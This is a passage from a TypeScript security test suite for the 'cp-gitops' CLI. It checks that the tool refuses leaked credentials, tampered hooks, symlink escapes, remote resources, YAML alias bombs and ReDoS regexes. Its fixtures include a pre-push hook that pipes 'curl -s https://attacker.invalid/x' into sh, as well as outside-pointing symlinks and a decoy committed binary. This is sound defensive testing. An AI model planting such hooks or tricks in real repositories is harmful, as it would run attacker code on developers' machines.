import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { createServer as createNetServer, type AddressInfo, type Socket } from 'node:net';
import { hostname } from 'node:os';
import { basename, dirname, join } from 'node:path';
import { expect } from 'chai';
import { CLI_BIN, expectExit, makeTempDir, removeTempDirs, runCli, type CliResult } from '../helpers/cli.js';
import { headerRecorder } from '../helpers/header-recorder.js';
import { createBareRepository, gitRun, NEUTRAL_ENV, refsOf } from '../helpers/git-remotes.js';

// A pull request is hostile input, and the laptop running cp-gitops holds tokens (issue #15). Each case
// is an attack or a careless input that was reproduced against bin/ before the fix; "security:" marks
// the ones that leak a secret, run code, or reach outside the repository.

const PASSWORD = 'Sup3rS3cretPassw0rd';

describe('hostile input (through bin/)', function () {
  this.timeout(120_000);
  let work: string;
  let bare: string;
  let repo: string;
  const cli = (args: readonly string[], env: NodeJS.ProcessEnv = {}) => runCli(args, { cwd: repo, env: { ...NEUTRAL_ENV, ...env } });
  const state = () => ({ heads: refsOf(join(repo, '.git')), remote: refsOf(bare), status: gitRun(['status', '--porcelain', '--untracked-files=all'], repo), head: gitRun(['symbolic-ref', '--short', 'HEAD'], repo) });
  const expectNoPassword = (result: CliResult) => expect(`${result.stdout}${result.stderr}`).not.to.include(PASSWORD);

  before(async () => {
    work = makeTempDir('cp-gitops-hostile-');
    bare = createBareRepository(join(work, 'remote.git'));
    expectExit(await runCli(['init', 'p', '--components', 'kafka,connect', '--envs', 'dev,prod', '--remote', bare, '--repo-url', 'https://git.example.org/p.git'], { cwd: work, env: NEUTRAL_ENV }), 0);
    repo = join(work, 'p');
  });

  after(() => removeTempDirs());

  describe('secrets', () => {
    const refusedSettings: [string, string, string][] = [
      ['a *.password key', 'kafka', `producer.ssl.key.password=${PASSWORD}`],
      ['a JAAS config with a password', 'connect', `admin.sasl.jaas.config=org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="${PASSWORD}";`],
      ['a *.secret key', 'connect', `consumer.client.secret=${PASSWORD}`],
      ['a *.key key', 'kafka', `confluent.license.key=${PASSWORD}`],
    ];
    for (const [title, component, setting] of refusedSettings) {
      it(`security: config set refuses ${title}, names the by-reference alternative, commits and prints nothing of it`, async () => {
        const before = state();
        const result = await cli(['config', component, 'set', setting, '--env', 'dev']);
        expectExit(result, 2);
        expect(result.stderr).to.match(/refuses to commit credentials/);
        expect(result.stderr).to.include('mountedSecrets').and.to.include('${file:/mnt/secrets/');
        expectNoPassword(result);
        expect(state()).to.deep.equal(before);
      });
    }

    it('config set accepts a config provider reference to a mounted secret (no secret in git)', async () => {
      const result = await cli(['config', 'kafka', 'set', 'producer.ssl.key.password=${file:/mnt/secrets/kafka-client/client.properties:key.password}', '--env', 'dev', '--dry-run']);
      expectExit(result, 0);
    });

    it('security: validate flags a password typed into cp-gitops.yaml by hand, at its line', async () => {
      const copy = join(makeTempDir('cp-gitops-hostile-model-'), 'p');
      gitRun(['clone', '-q', repo, copy], work);
      const modelPath = join(copy, 'cp-gitops.yaml');
      const model = readFileSync(modelPath, 'utf8');
      const edited = model.replace(/^(  - name: dev\n)/m, `$1    config:\n      kafka:\n        - ssl.truststore.password=${PASSWORD}\n`);
      expect(edited).not.to.equal(model);
      writeFileSync(modelPath, edited);
      const result = await runCli(['validate', copy], { env: NEUTRAL_ENV });
      expectExit(result, 1);
      const line = edited.split('\n').findIndex((text) => text.includes('ssl.truststore.password')) + 1;
      expect(result.stdout).to.match(new RegExp(`cp-gitops\\.yaml:${line}:\\d+: error: .*ssl\\.truststore\\.password looks like a credential`));
      expectNoPassword(result);
    });

    for (const flag of ['--remote', '--repo-url']) {
      it(`security: init ${flag} with credentials in the URL is refused, says to use a credential helper, writes nothing`, async () => {
        const parent = makeTempDir('cp-gitops-hostile-init-');
        const result = await runCli(['init', 'p', flag, `https://alice:${PASSWORD}@git.example.org/p.git`], { cwd: parent, env: NEUTRAL_ENV });
        expectExit(result, 2);
        expect(result.stderr).to.match(/credential helper/);
        expect(result.stderr).to.include('https://***@git.example.org/p.git');
        expectNoPassword(result);
        expect(readdirSync(parent)).to.deep.equal([]);
      });
    }

    it('security: a token alone as the URL user (https://<token>@host) is refused too; an ssh user name is not', async () => {
      const parent = makeTempDir('cp-gitops-hostile-init-');
      const token = await runCli(['init', 'p', '--remote', `https://${PASSWORD}@github.com/acme/p.git`], { cwd: parent, env: NEUTRAL_ENV });
      expectExit(token, 2);
      expectNoPassword(token);
      const ssh = await runCli(['init', 'p', '--dry-run', '--repo-url', 'ssh://git@github.com/acme/p.git'], { cwd: parent, env: NEUTRAL_ENV });
      expectExit(ssh, 0);
    });

    it('security: with --github, the token is never sent to an origin on another host or over plain HTTP', async () => {
      const { port, seen, close } = await headerRecorder();
      const copy = join(makeTempDir('cp-gitops-hostile-origin-'), 'p');
      gitRun(['clone', '-q', repo, copy], work);
      gitRun(['remote', 'set-url', 'origin', `http://127.0.0.1:${port}/acme/p.git`], copy);
      let result: CliResult;
      try {
        result = await runCli(['add-component', 'schemaregistry', '--env', 'dev', '--github', 'acme/p'], {
          cwd: copy,
          env: { ...NEUTRAL_ENV, GITHUB_TOKEN: PASSWORD, GITHUB_API_URL: `http://127.0.0.1:${port}/api`, NO_PROXY: '*', no_proxy: '*', http_proxy: '', HTTP_PROXY: '', https_proxy: '', HTTPS_PROXY: '' },
        });
      } finally {
        await close();
      }
      expectExit(result, 1);
      expect(seen.length, 'git asked the origin').to.be.greaterThan(0);
      expect(seen.map((headers) => headers.authorization ?? null)).to.deep.equal(seen.map(() => null));
      expectNoPassword(result);
    });

    for (const [flag, repository, urlFlag, tokenVariable] of [
      ['--github', 'acme/p', '--github-api-url', 'GITHUB_TOKEN'],
      ['--gitlab', 'acme/kafka/p', '--gitlab-url', 'GITLAB_TOKEN'],
    ] as const) {
      it(`security: ${flag} with a plain-HTTP API off this machine (${urlFlag} http://…) is refused before any request, nothing written`, async () => {
        const target = join(makeTempDir('cp-gitops-hostile-http-api-'), 'p');
        const result = await runCli(['init', target, flag, repository, urlFlag, 'http://git.example.invalid/api'], { env: { ...NEUTRAL_ENV, [tokenVariable]: PASSWORD } });
        expectExit(result, 2);
        expect(result.stderr).to.match(new RegExp(`${urlFlag} is plain HTTP \\(git\\.example\\.invalid\\): the token would be sent in clear`));
        expect(result.stderr).to.match(/hint: use the instance's https:\/\/ URL/);
        expect(existsSync(target), 'nothing written').to.equal(false);
        expectNoPassword(result);
      });
    }
  });

  /** A clone of the repository with `files` written (and committed when `commit`), validated through bin/. */
  async function validateWith(files: Record<string, string>, options: { commit?: boolean; edit?: (dir: string) => void; args?: string[] } = {}): Promise<{ result: CliResult; dir: string }> {
    const dir = join(makeTempDir('cp-gitops-hostile-validate-'), 'p');
    gitRun(['clone', '-q', repo, dir], work);
    for (const [path, content] of Object.entries(files)) {
      mkdirSync(dirname(join(dir, path)), { recursive: true });
      writeFileSync(join(dir, path), content);
    }
    options.edit?.(dir);
    if (options.commit) {
      gitRun(['add', '-A', '-f', '.'], dir);
      gitRun(['commit', '-q', '-m', 'hostile'], dir);
    }
    return { result: await runCli(['validate', dir, ...(options.args ?? [])], { env: NEUTRAL_ENV }), dir };
  }
  const addResource = (dir: string, overlay: string, entry: string) => {
    const path = join(dir, 'overlays', overlay, 'kustomization.yaml');
    writeFileSync(path, readFileSync(path, 'utf8').replace(/^resources:\n/m, `resources:\n  - ${entry}\n`));
  };
  const SECRET_YAML = 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\nstringData:\n  password: hunter2\n';

  describe('validation bypasses', () => {
    it('security: a kustomization named Kustomization (no extension) is validated like kustomization.yaml', async () => {
      const { result } = await validateWith(
        { 'overlays/dev/extra/Kustomization': 'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - missing.yaml\nsecretGenerator:\n  - name: db\n    literals:\n      - password=hunter2\n' },
        { edit: (dir) => addResource(dir, 'dev', 'extra') },
      );
      expectExit(result, 1);
      expect(result.stdout).to.match(/overlays\/dev\/extra\/Kustomization:4:5: error: kustomize\/missing-resource/);
      expect(result.stdout).to.match(/overlays\/dev\/extra\/Kustomization:7:5: error: policy\/plaintext-secret/);
    });

    it('security: plaintext Secrets are found in .json and upper-case .YAML files, kind: List items, and Component generators', async () => {
      const { result } = await validateWith({
        'overlays/dev/secret.json': JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'j' }, data: { password: 'aHVudGVyMg==' } }),
        'overlays/dev/SECRET.YAML': SECRET_YAML,
        'overlays/dev/list.yaml': `apiVersion: v1\nkind: List\nitems:\n  - ${SECRET_YAML.trimEnd().split('\n').join('\n    ')}\n`,
        'components/extra/kustomization.yaml': 'apiVersion: kustomize.config.k8s.io/v1alpha1\nkind: Component\nsecretGenerator:\n  - name: s\n    literals:\n      - token=abc\nconfigMapGenerator:\n  - name: c\n    literals:\n      - db.password=hunter2\n      - log.level=INFO\n',
      }, { args: ['--json'] });
      expectExit(result, 1);
      // Every place (the text report groups the same Secret found in two files into one finding).
      const violations = (JSON.parse(result.stdout) as { violations: { rule: string; file: string; line: number; column: number }[] }).violations;
      const found = violations.filter((violation) => violation.rule === 'policy/plaintext-secret').map((violation) => `${violation.file}:${violation.line}:${violation.column}`);
      expect(found).to.have.members(['components/extra/kustomization.yaml:5:5', 'components/extra/kustomization.yaml:10:9', 'overlays/dev/SECRET.YAML:5:1', 'overlays/dev/list.yaml:8:5', 'overlays/dev/secret.json:1:60']);
    });

    it('security: a suppression inside a string value silences nothing; a real one is counted in the summary', async () => {
      const hidden = await validateWith({ 'overlays/dev/db.yaml': SECRET_YAML.replace('  name: db\n', '  name: db\n  annotations:\n    note: "x # cp-gitops:ignore policy/plaintext-secret hidden in a string"\n') });
      expectExit(hidden.result, 1);
      expect(hidden.result.stdout).to.match(/overlays\/dev\/db\.yaml:\d+:\d+: error: policy\/plaintext-secret/);
      const real = await validateWith({ 'overlays/dev/db.yaml': `# cp-gitops:ignore policy/plaintext-secret a test fixture, not a real credential\n${SECRET_YAML}` });
      expectExit(real.result, 0);
      expect(real.result.stdout).to.match(/1 suppressed \(policy\/plaintext-secret in overlays\/dev\/db\.yaml\)/);
      const json = await runCli(['validate', real.dir, '--json'], { env: NEUTRAL_ENV });
      expect(JSON.parse(json.stdout).stats.suppressed).to.equal(1);
      const sarif = JSON.parse((await runCli(['validate', real.dir, '--format', 'sarif'], { env: NEUTRAL_ENV })).stdout) as { runs: { results: { ruleId: string; suppressions?: unknown[] }[] }[] };
      expect(sarif.runs[0]!.results.filter((entry) => entry.suppressions !== undefined).map((entry) => entry.ruleId)).to.deep.equal(['policy/plaintext-secret']);
    });

    it("security: $patch: delete of prod's Kafka and a JSON6902 remove of its KRaftController's spec are errors", async () => {
      const { result } = await validateWith(
        {
          'overlays/prod/patches/drop-kafka.yaml': 'apiVersion: platform.confluent.io/v1beta1\nkind: Kafka\nmetadata:\n  name: kafka\n$patch: delete\n',
          'overlays/prod/patches/drop-spec.yaml': '- op: remove\n  path: /spec\n',
        },
        {
          edit: (dir) => {
            const path = join(dir, 'overlays', 'prod', 'kustomization.yaml');
            writeFileSync(path, readFileSync(path, 'utf8').replace(/^patches:\n/m, 'patches:\n  - path: patches/drop-kafka.yaml\n  - path: patches/drop-spec.yaml\n    target:\n      kind: KRaftController\n'));
          },
        },
      );
      expectExit(result, 1);
      expect(result.stdout).to.match(/overlays\/prod\/patches\/drop-kafka\.yaml:5:1: error: policy\/stateful-removal: this patch deletes Kafka\/kafka/);
      expect(result.stdout).to.match(/overlays\/prod\/patches\/drop-spec\.yaml:1:3: error: policy\/stateful-removal: .*KRaftController\/kraftcontroller/);
    });

    it('security: validate flags a committed node_modules/ and an edited pre-push hook; suppressing them is refused', async () => {
      const { result } = await validateWith(
        { 'node_modules/.bin/cp-gitops': '#!/bin/sh\nexit 0\n', '.github/workflows/validate.yaml': 'on: pull_request\njobs: {}\n# cp-gitops:ignore policy/generated-hook-changed trust me\n' },
        { commit: true, edit: (dir) => writeFileSync(join(dir, '.githooks', 'pre-push'), '#!/bin/sh\nexit 0\n') },
      );
      expectExit(result, 1);
      expect(result.stdout).to.match(/node_modules\/\.bin\/cp-gitops:1:1: error: policy\/committed-dependencies/);
      expect(result.stdout).to.match(/\.githooks\/pre-push:2:1: error: policy\/generated-hook-changed/);
      expect(result.stdout).to.match(/\.github\/workflows\/validate\.yaml:1:1: error: policy\/generated-hook-changed/);
      expect(result.stdout).to.match(/suppression\/missing-reason: .*policy\/generated-hook-changed/);
    });

    it('security: a hook and workflow rewritten together with their checksum record (and drift/stale silenced) are still errors', async () => {
      const hostile = { '.githooks/pre-push': '#!/bin/sh\n# cp-gitops:ignore drift/stale a local tweak\ncurl -s https://attacker.invalid/x | sh\n', '.github/workflows/validate.yaml': 'on: pull_request\n# cp-gitops:ignore drift/stale a local tweak\njobs: {}\n' };
      const { result } = await validateWith(hostile, {
        commit: true,
        // The record entries now vouch for the hostile content: the record is repository content too.
        edit: (dir) => {
          const records = join(dir, '.cp-gitops', 'generated');
          for (const name of readdirSync(records)) {
            const entry = readFileSync(join(records, name), 'utf8');
            const path = Object.keys(hostile).find((file) => entry.endsWith(`  ${file}\n`));
            if (path) writeFileSync(join(records, name), `${createHash('sha256').update(hostile[path as keyof typeof hostile]).digest('hex')}  ${path}\n`);
          }
        },
      });
      expectExit(result, 1);
      expect(result.stdout).to.match(/\.githooks\/pre-push:2:1: error: policy\/generated-hook-changed: \.githooks\/pre-push differs from what cp-gitops generates/);
      expect(result.stdout).to.match(/\.github\/workflows\/validate\.yaml:\d+:1: error: policy\/generated-hook-changed/);
      expect(result.stdout).to.match(/fix: restore it as cp-gitops generates it: run cp-gitops generate/);
    });

    it('security: the pre-push hook never runs a committed node_modules/.bin/cp-gitops', async () => {
      const dir = join(makeTempDir('cp-gitops-hostile-hook-'), 'p');
      gitRun(['clone', '-q', repo, dir], work);
      const marker = join(dirname(dir), 'ran');
      mkdirSync(join(dir, 'node_modules', '.bin'), { recursive: true });
      writeFileSync(join(dir, 'node_modules', '.bin', 'cp-gitops'), `#!/bin/sh\ntouch '${marker}'\nexit 0\n`);
      chmodSync(join(dir, 'node_modules', '.bin', 'cp-gitops'), 0o755);
      gitRun(['add', '-f', 'node_modules'], dir);
      gitRun(['commit', '-q', '-m', 'hostile'], dir);
      gitRun(['config', 'core.hooksPath', '.githooks'], dir);
      gitRun(['remote', 'set-url', 'origin', createBareRepository(join(dirname(dir), 'remote.git'))], dir);
      // Plain git with the repository's own hooksPath (gitRun turns hooks off).
      const env = { ...process.env };
      delete env.CP_GITOPS_BIN;
      const push = spawnSync('git', ['push', '-q', 'origin', 'HEAD:refs/heads/hostile'], { cwd: dir, env, encoding: 'utf8' });
      expect(push.status).to.not.equal(0);
      const failure = push.stderr;
      expect(failure).to.match(/node_modules\/ is committed/);
      expect(existsSync(marker), 'the committed binary ran').to.equal(false);
    });
  });

  describe('writes and reads outside the repository', () => {
    /** A clone whose commit holds `link` pointing at a folder (or file) outside it; returns the clone and the outside place. */
    function cloneWithLink(link: string, outsideIsFile: boolean): { dir: string; outside: string } {
      const parent = makeTempDir('cp-gitops-hostile-link-');
      const dir = join(parent, 'p');
      gitRun(['clone', '-q', repo, dir], work);
      const outside = join(parent, outsideIsFile ? 'victim.txt' : 'victim');
      if (outsideIsFile) writeFileSync(outside, 'precious\n');
      else mkdirSync(outside);
      mkdirSync(dirname(join(dir, link)), { recursive: true });
      if (existsSync(join(dir, link))) gitRun(['rm', '-q', link], dir);
      symlinkSync(outside, join(dir, link));
      gitRun(['add', '-A'], dir);
      gitRun(['commit', '-q', '-m', 'hostile link'], dir);
      return { dir, outside };
    }

    it('security: a committed folder link (overlays/dev/topics -> outside) is refused by a change command, nothing written there', async () => {
      const { dir, outside } = cloneWithLink('overlays/dev/topics', false);
      const result = await runCli(['add-component', '--topic', 'orders', '--partitions', '3', '--env', 'dev'], { cwd: dir, env: NEUTRAL_ENV });
      expectExit(result, 1);
      expect(result.stderr).to.match(/overlays\/dev\/topics is a symbolic link .*nothing was written/);
      expect(readdirSync(outside)).to.deep.equal([]);
      expect(gitRun(['status', '--porcelain'], dir)).to.equal('');
    });

    it('security: a committed file link (overlays/dev/kustomization.yaml -> outside) is never overwritten', async () => {
      const { dir, outside } = cloneWithLink('overlays/dev/kustomization.yaml', true);
      const result = await runCli(['add-component', 'schemaregistry', '--env', 'dev'], { cwd: dir, env: NEUTRAL_ENV });
      expectExit(result, 1);
      expect(result.stderr).to.match(/overlays\/dev\/kustomization\.yaml is a symbolic link/);
      expect(readFileSync(outside, 'utf8')).to.equal('precious\n');
    });

    it('security: schemas import refuses a linked .cp-gitops/schemas', async () => {
      const { dir, outside } = cloneWithLink('.cp-gitops/schemas', false);
      const crd = join(dirname(dir), 'crd.yaml');
      writeFileSync(
        crd,
        'apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: widgets.example.com\nspec:\n  group: example.com\n  names: {kind: Widget, plural: widgets}\n  scope: Namespaced\n  versions:\n    - name: v1\n      served: true\n      storage: true\n      schema:\n        openAPIV3Schema: {type: object}\n',
      );
      const result = await runCli(['schemas', 'import', crd, '--dir', dir], { env: NEUTRAL_ENV });
      expectExit(result, 1);
      expect(result.stderr).to.match(/\.cp-gitops\/schemas is a symbolic link/);
      expect(readdirSync(outside)).to.deep.equal([]);
    });

    it('security: validate --render refuses a remote resource before Kustomize runs: no request leaves', async () => {
      const seen: string[] = [];
      const server = createServer((request, response) => {
        seen.push(request.url ?? '');
        response.writeHead(200, { 'content-type': 'text/yaml' }).end('apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: fetched\n');
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
      const { port } = server.address() as AddressInfo;
      let outcome: { result: CliResult; dir: string };
      try {
        outcome = await validateWith({}, { edit: (dir) => addResource(dir, 'dev', `http://127.0.0.1:${port}/evil.yaml`), args: ['--render'] });
      } finally {
        server.closeAllConnections();
        await new Promise<void>((resolve) => server.close(() => resolve()));
      }
      expectExit(outcome.result, 1);
      expect(outcome.result.stdout).to.match(/overlays\/dev\/kustomization\.yaml:\d+:\d+: error: kustomize\/remote-resource/);
      expect(seen).to.deep.equal([]);
    });
  });

  describe('robustness', () => {
    const BOMB = 'x-bomb:\n  a: &a [l, l, l, l, l, l, l, l, l]\n  b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n  c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n  d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n  e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n';

    it('an alias bomb in cp-gitops.yaml is a located error, and --format sarif still prints its report', async () => {
      const { result, dir } = await validateWith({}, { edit: (clone) => writeFileSync(join(clone, 'cp-gitops.yaml'), readFileSync(join(clone, 'cp-gitops.yaml'), 'utf8') + BOMB) });
      expectExit(result, 1);
      expect(result.stdout).to.match(/cp-gitops\.yaml:\d+:1: error: yaml\/alias-bomb/);
      expect(result.stderr).not.to.include('internal error');
      const sarif = await runCli(['validate', dir, '--format', 'sarif'], { env: NEUTRAL_ENV });
      expectExit(sarif, 1);
      const log = JSON.parse(sarif.stdout) as { runs: { results: { ruleId: string }[] }[] };
      expect(log.runs[0]!.results.map((entry) => entry.ruleId)).to.include('yaml/alias-bomb');
      gitRun(['commit', '-q', '-am', 'bomb'], dir);
      const change = await runCli(['scale', 'kafka', '--env', 'dev', '--replicas', '4'], { cwd: dir, env: NEUTRAL_ENV });
      expectExit(change, 1);
      expect(change.stderr).to.match(/cp-gitops\.yaml:\d+:1: YAML: aliases expand too much .*fix: write the values out/);
    });

    it('two topic names that fold to one resource name are refused with both names (no internal error)', async () => {
      const dir = join(makeTempDir('cp-gitops-hostile-topics-'), 'p');
      gitRun(['clone', '-q', repo, dir], work);
      expectExit(await runCli(['add-component', '--topic', 'orders.v1', '--partitions', '3', '--env', 'dev'], { cwd: dir, env: NEUTRAL_ENV }), 0);
      gitRun(['merge', '-q', '--ff-only', 'cp-gitops/add-topic-orders-v1-dev'], dir);
      const before = gitRun(['status', '--porcelain'], dir);
      const result = await runCli(['add-component', '--topic', 'Orders_V1', '--partitions', '3', '--env', 'dev'], { cwd: dir, env: NEUTRAL_ENV });
      expectExit(result, 2);
      expect(result.stderr).to.match(/topic "Orders_V1" and topic "orders\.v1" of dev would both be the KafkaTopic resource "orders-v1"/);
      expect(gitRun(['status', '--porcelain'], dir)).to.equal(before);
    });

    it('security: a YAML file over 8 MiB is a yaml/too-large finding naming the limit, not parsed (validate ends quickly)', async () => {
      const started = Date.now();
      const line = 'key-0000000000: a plain value of some length\n';
      const { result } = await validateWith({ 'overlays/dev/huge.yaml': line.repeat(Math.ceil((9 * 1024 * 1024) / line.length)) });
      expectExit(result, 1);
      expect(result.stdout).to.match(/overlays\/dev\/huge\.yaml:1:1: error: yaml\/too-large: the file is 9 MiB, over cp-gitops' limit of 8 MiB/);
      expect(Date.now() - started).to.be.below(60_000);
    });

    it('security: a cp-gitops.yaml over 1 MiB is refused before parsing: a finding in validate, an error naming the file in a change command', async () => {
      const padding = `# ${'x'.repeat(98)}\n`.repeat(11 * 1024);
      const { result, dir } = await validateWith({}, { edit: (clone) => writeFileSync(join(clone, 'cp-gitops.yaml'), readFileSync(join(clone, 'cp-gitops.yaml'), 'utf8') + padding) });
      expectExit(result, 1);
      expect(result.stdout).to.match(/cp-gitops\.yaml:1:1: error: yaml\/too-large: the file is 1\.\d MiB, over cp-gitops' limit of 1 MiB/);
      expect(result.stdout.match(/cp-gitops\.yaml:1:1/g), 'one finding, not two').to.have.length(1);
      gitRun(['commit', '-q', '-am', 'padded'], dir);
      const before = { heads: refsOf(join(dir, '.git')), status: gitRun(['status', '--porcelain'], dir) };
      const change = await runCli(['scale', 'kafka', '--env', 'dev', '--replicas', '4'], { cwd: dir, env: NEUTRAL_ENV });
      expectExit(change, 1);
      expect(change.stderr).to.match(/cp-gitops\.yaml:1:1: the file is 1\.\d MiB, over cp-gitops' limit of 1 MiB .*fix: split it/);
      expect({ heads: refsOf(join(dir, '.git')), status: gitRun(['status', '--porcelain'], dir) }).to.deep.equal(before);
    });

    it('| head: a reader that goes away gives no EPIPE stack trace', async () => {
      const { dir } = await validateWith({ 'overlays/dev/many.yaml': Array.from({ length: 3000 }, (_, index) => `k${index}: yes\n`).join('') });
      const piped = spawnSync('sh', ['-c', `node '${CLI_BIN}' validate '${dir}' | head -n 1`], { encoding: 'utf8', env: { ...process.env, ...NEUTRAL_ENV } as NodeJS.ProcessEnv });
      expect(piped.stdout.split('\n').filter(Boolean)).to.have.length(1);
      expect(piped.stderr).not.to.match(/EPIPE|Unhandled 'error' event/);
    });
  });

  describe('ReDoS in imported schemas', () => {
    const widgetCrd = (pattern: string) =>
      `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: widgets.example.com\nspec:\n  group: example.com\n  names: {kind: Widget, plural: widgets}\n  scope: Namespaced\n  versions:\n    - name: v1\n      served: true\n      storage: true\n      schema:\n        openAPIV3Schema:\n          type: object\n          properties:\n            spec:\n              type: object\n              properties:\n                name: {type: string, pattern: '${pattern}'}\n`;

    const importInto = async (pattern: string) => {
      const dir = join(makeTempDir('cp-gitops-hostile-redos-'), 'p');
      gitRun(['clone', '-q', repo, dir], work);
      const crd = join(dirname(dir), 'crd.yaml');
      writeFileSync(crd, widgetCrd(pattern));
      return { dir, crd, result: await runCli(['schemas', 'import', crd, '--dir', dir], { env: NEUTRAL_ENV }) };
    };

    it('security: an imported ^(a+)+$ runs on RE2: a 50,000-character near match is checked at once, through the compiled-code cache too', async () => {
      const { dir, result } = await importInto('^(a+)+$');
      expectExit(result, 0);
      writeFileSync(join(dir, 'overlays', 'dev', 'widget.yaml'), `apiVersion: example.com/v1\nkind: Widget\nmetadata:\n  name: w\nspec:\n  name: ${'a'.repeat(50_000)}!\n`);
      addResource(dir, 'dev', 'widget.yaml');
      // A cache of its own: the first run compiles and caches the validator's code, the second evaluates that code.
      const env = { ...NEUTRAL_ENV, CP_GITOPS_CACHE_DIR: join(dirname(dir), 'cache') };
      for (const run of ['compiled', 'cached']) {
        const validate = await runCli(['validate', dir], { env });
        expectExit(validate, 1);
        expect(validate.stdout, run).to.match(/overlays\/dev\/widget\.yaml:6:\d+: error: schema\/resource: Widget "w": spec\.name must be a string matching \^\(a\+\)\+\$/);
        expect(readdirSync(join(dirname(dir), 'cache', 'schemas')), run).to.have.length.greaterThan(0);
      }
      writeFileSync(join(dir, 'overlays', 'dev', 'widget.yaml'), `apiVersion: example.com/v1\nkind: Widget\nmetadata:\n  name: w\nspec:\n  name: ${'a'.repeat(50_000)}\n`);
      const valid = await runCli(['validate', dir], { env });
      expect(valid.stdout).to.include('overlays/dev/kustomization.yaml').and.not.to.include('widget.yaml');
    });

    const unsupported: [string, string, RegExp][] = [
      ['a lookbehind', '^(?<!tmp-)[a-z]+$', /a lookbehind/],
      ['a lookahead', '^(?!tmp-)[a-z]+$', /a lookahead/],
      ['a backreference', '^(a)\\1$', /a backreference/],
    ];
    for (const [title, pattern, feature] of unsupported) {
      it(`schemas import refuses ${title} (RE2 cannot run it), naming the file and the pattern's JSON pointer; writes nothing`, async () => {
        const { dir, crd, result } = await importInto(pattern);
        expectExit(result, 1);
        expect(result.stderr).to.include(`${basename(crd)}: the pattern at /spec/versions/0/schema/openAPIV3Schema/properties/spec/properties/name/pattern`);
        expect(result.stderr).to.match(feature);
        expect(result.stderr).to.match(/hint: .*then import again/);
        expect(gitRun(['status', '--porcelain', '--untracked-files=all'], dir)).to.equal('');
      });
    }

    it('a committed schema with a lookahead is not used: a schema/imported error names the file, the pointer and the fix', async () => {
      const schema = { type: 'object', properties: { spec: { type: 'object', properties: { name: { type: 'string', pattern: '^(?!tmp-)' } } } } };
      const { result } = await validateWith({
        '.cp-gitops/schemas/example.com_widget_v1.json': JSON.stringify(schema),
        'overlays/dev/widget.yaml': 'apiVersion: example.com/v1\nkind: Widget\nmetadata:\n  name: w\nspec:\n  name: x\n',
      }, { edit: (dir) => addResource(dir, 'dev', 'widget.yaml') });
      expectExit(result, 1);
      expect(result.stdout).to.match(/\.cp-gitops\/schemas\/example\.com_widget_v1\.json:1:1: error: schema\/imported: .*the pattern at \/properties\/spec\/properties\/name\/pattern \("\^\(\?!tmp-\)"\) uses a lookahead.*fix: /);
    });
  });

  describe('messages for bad input name the file, the place and the fix', () => {
    // One row per bad input: what is run, what the message must locate (a file with line:column or a key
    // path, or the flag and its value for a command line), and the hint line every row must have.
    const crd = (spec: string) => `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: xs.x.io\nspec:\n${spec}`;
    const inputs: Record<string, string> = {
      'bad.json': '{\n  "type": "object",\n  oops\n}\n',
      'bad.yaml': 'a: [\nb: 1\n',
      'nogroup.yaml': crd('  names: {kind: X}\n'),
      'nokind.yaml': crd('  group: x.io\n  names: {plural: xs}\n'),
      'noschema.yaml': crd('  group: x.io\n  names: {kind: X}\n  versions:\n    - name: v1\n'),
      'two.yaml': `${crd('  group: x.io\n  names: {kind: Y}\n  versions:\n    - name: v1\n      schema: {openAPIV3Schema: {type: object}}\n')}---\n${crd("  group: x.io\n  names: {kind: X}\n  versions:\n    - name: v1\n      schema: {openAPIV3Schema: {type: object, properties: {id: {type: string, pattern: '(a)\\1'}}}}\n")}`,
      'widget.json': '{"type": "object", "properties": {}}\n',
    };
    const editModel = (edit: (text: string) => string) => async () => {
      const dir = join(makeTempDir('cp-gitops-hostile-msg-'), 'p');
      gitRun(['clone', '-q', repo, dir], work);
      writeFileSync(join(dir, 'cp-gitops.yaml'), edit(readFileSync(join(dir, 'cp-gitops.yaml'), 'utf8')));
      return runCli(['generate'], { cwd: dir, env: NEUTRAL_ENV });
    };
    const inTemp = (args: string[]) => () => runCli(args, { cwd: makeTempDir('cp-gitops-hostile-msg-'), env: NEUTRAL_ENV });
    const importing = (file: string) => async () => {
      const dir = makeTempDir('cp-gitops-hostile-msg-');
      gitRun(['clone', '-q', repo, join(dir, 'p')], work);
      writeFileSync(join(dir, file), inputs[file]!);
      return runCli(['schemas', 'import', file, '--dir', 'p'], { cwd: dir, env: NEUTRAL_ENV });
    };
    const rows: { input: string; run: () => Promise<CliResult>; exit: number; place: RegExp }[] = [
      { input: 'schemas import of broken JSON', run: importing('bad.json'), exit: 1, place: /^error: bad\.json:3:3: not valid JSON/m },
      { input: 'schemas import of broken YAML', run: importing('bad.yaml'), exit: 1, place: /^error: bad\.yaml:2:1: not valid YAML/m },
      { input: 'a CRD without spec.group', run: importing('nogroup.yaml'), exit: 1, place: /^error: nogroup\.yaml: a CustomResourceDefinition without spec\.group$/m },
      { input: 'a CRD without spec.names.kind', run: importing('nokind.yaml'), exit: 1, place: /^error: nokind\.yaml: a CustomResourceDefinition without spec\.names\.kind$/m },
      { input: 'a CRD without a schema', run: importing('noschema.yaml'), exit: 1, place: /^error: noschema\.yaml: CustomResourceDefinition X has no schema at spec\.versions\[\]\.schema\.openAPIV3Schema/m },
      { input: 'a backreference in the second document of a CRD file', run: importing('two.yaml'), exit: 1, place: /^error: two\.yaml \(document 2\): the pattern at \/spec\/versions\/0\/schema\/openAPIV3Schema\/properties\/id\/pattern/m },
      { input: 'a catalog schema not named <kind>_<version>.json', run: importing('widget.json'), exit: 1, place: /^error: widget\.json: a catalog schema must be named <kind>_<version>\.json/m },
